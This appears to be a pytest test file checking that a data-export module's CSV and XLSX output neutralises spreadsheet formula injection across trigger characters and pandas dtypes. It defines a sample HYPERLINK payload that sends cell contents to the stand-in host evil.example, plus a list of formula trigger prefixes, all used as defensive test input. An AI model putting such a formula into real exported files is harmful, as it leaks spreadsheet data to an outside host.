"""No download can run: every text cell a spreadsheet would read as a formula is neutralised,
whatever the column's dtype (pandas 3 gives text its own `str` dtype, never `object`)."""

from __future__ import annotations

import csv
import io
from functools import cache

import openpyxl
import pandas as pd
import pytest

from data_sources import export
from data_sources.snapshot import Snapshot, load_snapshot
from metadata.registry import load_registry

# Each character a spreadsheet starts a formula with, alone and after leading whitespace, and
# the full-width forms some spreadsheets also accept.
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", " =", "   +", "\u00a0-", "\n@", " \t=", "＝", "＋"]
PAYLOAD = 'HYPERLINK("https://evil.example/?leak="&A1,"Open")'
DTYPES = ["str", "object", "string", "category"]
NUMBERS = {"Value", "Lower 95% bound", "Upper 95% bound"}
TEXT_COLUMNS = [h for h in export.EXPORT_HEADINGS.values() if h not in NUMBERS]


def formula_like(cell: str) -> bool:
    return cell.startswith(export.FORMULA_TRIGGERS) or cell.lstrip().startswith(
        export.FORMULA_TRIGGERS
    )


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_neutralise_formula_prefixes_every_trigger(trigger: str) -> None:
    cell = trigger + PAYLOAD
    assert export.neutralise_formula(cell) == "'" + cell
    assert export.neutralise_formula("'" + cell) == "'" + cell  # idempotent
    assert not formula_like(str(export.neutralise_formula(cell)))


@pytest.mark.parametrize("cell", ["Glasgow City", "3.4%", "2012-13", "", "a=b", "x-1"])
def test_ordinary_text_is_left_alone(cell: str) -> None:
    assert export.neutralise_formula(cell) == cell


@cache
def snapshot() -> Snapshot:
    return load_snapshot()


def poisoned_table(trigger: str, dtype: str) -> pd.DataFrame:
    """The real tidy export of some rows, with every text column holding a formula."""
    rows = export.select_rows(snapshot().observations, indicators=["claimant_rate"]).head(5)
    table = export.tidy_export(rows, load_registry(), snapshot().manifest)
    for column in TEXT_COLUMNS:
        table[column] = pd.Series([trigger + PAYLOAD] * len(table), dtype=dtype)
    return table


@pytest.mark.parametrize("dtype", DTYPES)
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_csv_neutralises_every_text_column_of_any_dtype(trigger: str, dtype: str) -> None:
    table = poisoned_table(trigger, dtype)
    cells = list(csv.reader(io.StringIO(export.to_csv_bytes(table).decode("utf-8"))))
    header, body = cells[0], cells[1:]
    for column in TEXT_COLUMNS:
        values = [row[header.index(column)] for row in body]
        assert values == ["'" + trigger + PAYLOAD] * len(table), column
    assert not [cell for row in body for cell in row if formula_like(cell)]


@pytest.mark.parametrize("dtype", DTYPES)
@pytest.mark.parametrize("trigger", TRIGGERS)
def test_xlsx_neutralises_every_text_column_of_any_dtype(trigger: str, dtype: str) -> None:
    table = poisoned_table(trigger, dtype)
    data = export.to_xlsx_bytes(table, load_registry(), snapshot().manifest)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook["Data"]
    header = [c.value for c in sheet[1]]
    for column in TEXT_COLUMNS:
        index = header.index(column) + 1
        cells = [sheet.cell(row=r, column=index) for r in range(2, len(table) + 2)]
        # XLSX stores a carriage return as the escape _x000D_, which openpyxl hands back as is.
        values = [str(c.value).replace("_x000D_", "\r") for c in cells]
        assert values == ["'" + trigger + PAYLOAD] * len(table), column
        assert {c.data_type for c in cells} == {"s"}  # stored as text, never as a formula
    for name in workbook.sheetnames:
        for row in workbook[name].iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert not (isinstance(cell.value, str) and formula_like(cell.value))
